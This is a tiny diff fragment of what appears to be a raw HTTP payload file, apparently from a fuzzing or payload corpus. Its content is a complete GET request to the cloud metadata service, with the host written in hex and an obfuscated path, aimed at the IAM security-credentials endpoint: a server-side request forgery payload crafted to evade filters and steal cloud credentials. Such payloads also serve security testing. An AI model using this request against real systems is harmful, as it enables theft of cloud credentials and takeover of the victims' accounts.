@@ -1,4 +1,4 @@
->>>
+>>>
 GET /latest/%2e%2e/latest//meta-data/./iam/security-credentials/r HTTP/1.1
 Host: 0xA9FEA9FE:80
 
